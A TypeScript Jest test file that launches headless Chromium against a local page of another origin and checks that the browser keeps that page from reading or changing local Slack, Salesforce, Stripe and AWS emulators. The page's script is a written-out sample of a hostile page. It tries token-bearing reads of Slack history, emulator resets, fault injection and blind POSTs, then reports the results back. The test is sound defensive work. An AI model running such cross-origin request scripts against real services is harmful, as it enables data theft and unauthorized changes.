import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import { type Servers, startServers } from "./testing.ts";

const NAMES = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome"];
const CHROMIUM = [
  process.env.CHROME_PATH ?? "",
  ...(process.env.PATH ?? "").split(delimiter).flatMap((folder) => NAMES.map((name) => join(folder, name))),
  "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
].find((path) => path !== "" && existsSync(path));
const FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--remote-debugging-port=0"];

let servers: Servers;
let twin: Servers["twin"];
let saas: Servers["saas"];
let foreign: Server;
let browser: ChildProcess | undefined;
let profile: string;
const reported = Promise.withResolvers<Record<string, string>>();

beforeAll(async () => {
  profile = await mkdtemp(join(tmpdir(), "chromium-"));
  servers = await startServers([{ Name: "Untouched" }]);
  ({ twin, saas } = servers);
  foreign = createServer((request, response) => {
    if (request.method !== "POST")
      return response.setHeader("content-type", "text/html").end(`<script type="module">${script()}</script>`);
    const chunks: Buffer[] = [];
    request.on("data", (chunk) => chunks.push(chunk));
    request.on("end", () => {
      reported.resolve(JSON.parse(Buffer.concat(chunks).toString()));
      response.end();
    });
    return undefined;
  });
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve));
});
afterAll(async () => {
  if (browser?.kill("SIGKILL")) await once(browser, "exit");
  await rm(profile, { recursive: true, force: true, maxRetries: 5 });
  foreign?.close();
  foreign?.closeAllConnections();
  await servers?.stop();
});

/** What a hostile page does: it reads what it can, and sends what needs no leave of the other side. */
function script(): string {
  const bearer = { authorization: `Bearer ${saas.slack.token}` };
  const history = `${saas.slack.url}/api/conversations.history?channel=${saas.slack.channelId}`;
  const blind = { mode: "no-cors", method: "POST" };
  const calls: Record<string, [string, object]> = {
    "reset Salesforce": [`${saas.salesforce.url}/__emulator__/reset`, blind],
    "reset Stripe": [`${saas.stripe.url}/__emulator__/reset`, blind],
    "faults of Slack": [
      `${saas.slack.url}/__emulator__/faults`,
      { ...blind, body: JSON.stringify({ path: "/**", status: 500 }) },
    ],
    "faults of AWS": [
      `${twin.origin}/_twin/faults`,
      { ...blind, body: '{"service":"iam","operation":"GetRole","cut":true}' },
    ],
    "read Slack with its token": [history, { headers: bearer }],
    "read Slack as a form": [history, { method: "POST", body: `token=${saas.slack.token}` }],
    "read accounts": [`${saas.page.url}/api/accounts`, {}],
    "make an account": [
      `${saas.page.url}/api/accounts`,
      { method: "POST", headers: { "content-type": "application/json" }, body: '{"Name":"Made"}' },
    ],
    "make an account blindly": [`${saas.page.url}/api/accounts`, { ...blind, body: '{"Name":"Made"}' }],
  };
  return `
    const calls = ${JSON.stringify(calls)};
    const report = {};
    for (const [name, [url, init]] of Object.entries(calls))
      report[name] = await fetch(url, init).then(async (answer) => answer.type + (await answer.text()), () => "blocked");
    await fetch("/report", { method: "POST", body: JSON.stringify(report) });`;
}

const withBrowser = CHROMIUM ? test : test.skip;

withBrowser(
  `a page of another origin reads and changes nothing ${CHROMIUM ? "" : "(skipped: no Chromium is installed; CHROME_PATH names one)"}`,
  async () => {
    const address = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`;
    browser = spawn(CHROMIUM as string, [...FLAGS, `--user-data-dir=${profile}`, address], { stdio: "ignore" });
    // What is sent without leave cannot be read: the browser hands out an empty answer.
    expect(await reported.promise).toEqual({
      "reset Salesforce": "opaque",
      "reset Stripe": "opaque",
      "faults of Slack": "opaque",
      "faults of AWS": "opaque",
      "read Slack with its token": "blocked",
      "read Slack as a form": "blocked",
      "read accounts": "blocked",
      "make an account": "blocked",
      "make an account blindly": "opaque",
    });
    const accounts = (await (await fetch(`${saas.page.url}/api/accounts`)).json()) as { Name: string }[];
    expect(accounts.map(({ Name }) => Name)).toEqual(["Untouched"]);
    expect([saas.slack.faults.list(), twin.kernel.faults]).toEqual([[], []]);
    expect(Object.keys(saas.salesforce.calls.report().routes)).not.toEqual([]);
  },
  60_000,
);
